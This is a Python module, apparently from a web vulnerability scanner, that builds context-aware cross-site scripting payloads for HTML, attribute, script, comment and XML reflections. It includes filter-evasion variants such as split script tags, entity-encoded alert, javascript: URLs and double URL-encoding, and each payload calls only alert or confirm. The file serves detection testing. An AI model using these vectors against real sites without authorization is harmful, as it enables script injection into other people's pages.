"""Payloads that fit a context, most likely first.

Each passes a number to a function every browser has. Digits stay digits in every variant, so a payload is
used again with a fresh number by replacing it. The vectors and why each exists: OWASP XSS Filter Evasion
Cheat Sheet, PortSwigger XSS cheat sheet.
"""

import html
from collections.abc import Iterable, Iterator
from itertools import zip_longest
from urllib.parse import quote

from msgspec import Struct

from s2n.s2nscanner.oracles.contexts import URL_ATTRIBUTES, Place, Reflection
from s2n.s2nscanner.oracles.scriptcontext import CLOSER, Kind, State

TESTED = ">\"'`\\/=;(){}$&# \t\n-+:*!%<"
"""Characters whose survival is asked for; ``<`` stands last because tag strippers cut from it to the end."""

ENTITY_ALERT = "".join(f"&#{ord(letter)};" for letter in "alert")
"""``alert`` for filters on the word and for pages that turn everything into capitals."""


class Survivors(Struct, frozen=True):
    """What came back of `TESTED` at one reflection: as it was, or as an HTML entity.

    None for ``raw``: unknown, so nothing is ruled out. ``escaped``: a backslash was put before it.
    ``decoded_twice``: ``%3C`` came back as ``<``.
    """

    raw: frozenset[str] | None = None
    entity: frozenset[str] = frozenset()
    escaped: frozenset[str] = frozenset()
    decoded_twice: bool = False

    def allow(self, payload: str, *, entities: bool) -> bool:
        """Can ``payload`` come back intact? ``entities``: the context decodes HTML entities."""
        if self.raw is None:
            return True
        usable = self.raw | self.entity if entities else self.raw
        # Our backslash takes the filter's away: \' becomes \\', which ends the string.
        for char in self.escaped:
            payload = payload.replace("\\" + char, "\\")
        return all(char in usable for char in payload if char in TESTED)


def payloads(reflection: Reflection, survivors: Survivors, number: int) -> Iterator[str]:
    """The payloads for ``reflection`` that can come back intact, most likely first."""
    call = f"alert({number})"
    if survivors.raw is not None and not {"(", ")"} <= survivors.raw:
        call = f"alert`{number}`" if "`" in survivors.raw else f"alert&#40;{number}&#41;"
    plain = _interleaved(
        (payload for payload in _in_value(reflection, call) if survivors.allow(payload, entities=True)),
        (payload for payload in _inside(reflection, call) if survivors.allow(payload, entities=False)),
        (payload for payload in _outside(reflection, call) if survivors.allow(payload, entities=False)),
    )
    if not survivors.decoded_twice:
        return plain
    call = f"alert({number})"
    twice = (*_in_value(reflection, call), *_inside(reflection, call), *_outside(reflection, call))
    return _interleaved(plain, (quote(payload, safe="") for payload in twice))


def _interleaved(*lists: Iterable[str]) -> Iterator[str]:
    for row in zip_longest(*lists):
        yield from (payload for payload in row if payload is not None)


def elements(call: str, *, upper: bool = False) -> list[str]:
    """Elements that run ``call``: plain ones first, then one for each habit of filters."""
    other = call.replace("alert", "confirm")
    coded = call.replace("alert", ENTITY_ALERT)
    found = [
        f"<svg onload={call}>",
        f"<img src=x onerror={call}>",
        f"<script>{call}</script>",
        f"<scr<script>ipt>{other}</scr</script>ipt>",  # removes <script> once
        f"<dEtails\topen\tonToggle\t=\t{other}\t>",  # wants on…= and a space, knows the usual elements
        f"<svg/onload={coded}>",  # removes spaces or the word alert, capitals
        f"<svg onload={other}//",  # strips tags that end with >
        f"<a href=javascript:{other}>x</a>",  # removes event handlers
        f'<iframe srcdoc="&lt;script&gt;{other}&lt;/script&gt;">',
        f'<iframe src="java&#9;script:{other}">',
        f"<svg><animate onbegin={other} attributeName=x dur=1s>",
        f"<b contenteditable autofocus onfocus={other}>",
    ]
    if upper:
        found.insert(0, found.pop(5))
    return found


def _outside(reflection: Reflection, call: str) -> list[str]:
    """Payloads that leave the context for the page around it."""
    vectors = elements(call, upper=reflection.upper)
    place, element = reflection.place, reflection.element
    if place is Place.TEXT:
        return vectors
    if place is Place.XML:
        return _xml(call)
    if place is Place.COMMENT:
        closers = ["-->", "--!>", *([">"] if not reflection.before else [])]
        return [closer + vector for vector in vectors for closer in closers]
    closer = {
        Place.RAW_TEXT: f"</{element}>",
        Place.STYLE: "</style>",
        Place.DATA: "</script>",
        Place.SCRIPT: "</script>",
        Place.TEMPLATE: "</template>",
    }.get(place, f"{reflection.quote}>")
    return [closer + vector for vector in vectors]


def _inside(reflection: Reflection, call: str) -> list[str]:
    """Payloads that stay in the tag or the script the token stands in."""
    if reflection.place is Place.SCRIPT and reflection.script is not None:
        return list(script(reflection.script, call))
    if reflection.place is Place.TAG:
        return _attributes("", call, reflection)
    if reflection.place is Place.ATTRIBUTE:
        return _attributes(reflection.quote, call, reflection)
    return []


def _in_value(reflection: Reflection, call: str) -> Iterator[str]:
    """Payloads that stay in the attribute's value, which may come back as entities."""
    if reflection.place is not Place.ATTRIBUTE:
        return
    name = reflection.attribute
    if reflection.script is not None:
        for payload in script(reflection.script, call):
            yield payload
            coded = payload.replace("'", "&#39;").replace('"', "&quot;").replace("`", "&#96;")
            if coded != payload:
                yield coded
            if name in URL_ATTRIBUTES and "'" in payload:
                yield payload.replace("'", "%27")
    elif name == "src" and reflection.element == "script" and not reflection.before.strip():
        yield f"data:text/javascript,{call}"
    elif name in URL_ATTRIBUTES and not reflection.before.strip():
        other = call.replace("alert", "confirm")
        yield f"javascript:{call}"
        yield f"JavaScript:{other}//https://"
        yield f"java\tscript:{other}"
        yield f" javascript:{call}"
    elif name == "srcdoc":
        for vector in elements(call)[:3]:
            yield html.escape(vector, quote=False)
            yield vector


def _attributes(quoting: str, call: str, reflection: Reflection) -> list[str]:
    """New attributes; ``quoting`` ends the value the token stands in."""
    q = quoting
    other = call.replace("alert", "confirm")
    coded = call.replace("alert", ENTITY_ALERT)
    lead = q or "x"
    tail = f"x={q}" if q else ""
    if reflection.hidden and reflection.element != "input":  # no user reaches it; some of them load
        loads = reflection.attribute in {"src", "href"} and reflection.element in {"script", "link"}
        return [f"{lead} onerror={call} {tail}", f"{lead} onload={other} {tail}"] if loads else []
    if reflection.hidden:
        # PortSwigger, "XSS in hidden input fields": fires without a user in Chromium.
        event = "oncontentvisibilityautostatechange"
        return [
            f"{lead} {event}={call} style=content-visibility:auto {tail}",
            f"{lead}\t{event}\t=\t{other}\tstyle=content-visibility:auto\t{tail}",
            f"{lead} {event}={coded} style=content-visibility:auto {tail}",
        ]
    found = [
        f"{lead} autofocus tabindex=1 onfocus={call} {tail}",
        f"{lead}\tautofocus\ttabindex=1\tonfocus\t=\t{other}\t{tail}",
        f"{lead} autofocus tabindex=1 onfocus={coded} {tail}",
        f"{lead} onpointerenter={other} {tail}",
    ]
    if q:
        found.insert(1, f"{q}autofocus={q}{q}tabindex={q}1{q}onfocus={q}{call}{q}x={q}")
    if reflection.upper:
        found.insert(0, found.pop(-2))
    return found


def script(state: State, call: str) -> Iterator[str]:
    """Ways from a place inside JavaScript to code, the rest of the script kept whole."""
    closers = "".join(CLOSER[mark] for mark in reversed(state.open))
    if state.kind is Kind.STRING:
        yield from _string(state.quote, closers, call)
    elif state.kind is Kind.TEMPLATE:
        yield f"${{{call}}}"
        yield f"`-{call}-`"
    elif state.kind is Kind.LINE_COMMENT:
        yield f"\n{call}//"
        yield f"\u2028{call}//"
    elif state.kind is Kind.BLOCK_COMMENT:
        yield f"*/;{call};/*"
        yield f"*/{call}/*"
    elif state.kind is Kind.REGEX:
        yield f"x/-{call}-/x"
        yield f"x/{closers};{call}//"
    else:
        yield call
        yield f"-{call}"
        yield f";{call}//"
        yield f"{closers};{call}//"
        yield f",{call}"


def _string(quoting: str, closers: str, call: str) -> Iterator[str]:
    other = call.replace("alert", "confirm")
    yield f"{quoting}-{call}-{quoting}"
    yield f"{quoting};{call}//"
    yield f"\\{quoting}-{call}//"  # quotes are escaped, backslashes are not
    if closers:
        yield f"{quoting}{closers};{call}//"
        yield f"\\{quoting}{closers};{call}//"
    yield f"{quoting};{call};{quoting}"
    yield f"{quoting}-{other}-{quoting}"


def _xml(call: str) -> list[str]:
    element = f'<x:script xmlns:x="http://www.w3.org/1999/xhtml">{call}</x:script>'
    single = element.replace('"', "'")
    return [
        element,
        f'"/>{element}<x x="',
        f"'/>{single}<x x='",
        f"]]>{element}<![CDATA[",
        f"-->{element}<!--",
    ]
